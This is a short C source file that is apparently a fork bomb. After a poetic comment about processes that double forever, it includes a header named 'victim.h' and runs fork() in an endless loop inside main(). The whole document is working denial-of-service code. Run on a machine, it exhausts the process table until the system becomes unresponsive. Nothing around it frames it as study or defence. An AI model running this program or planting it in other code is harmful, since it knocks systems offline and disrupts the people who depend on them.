/* Doubles itself, and each of them does, and again: there can be no more of them, and they never
   end. */
#include "victim.h"

int main(void) {
  for (;;) fork();
}
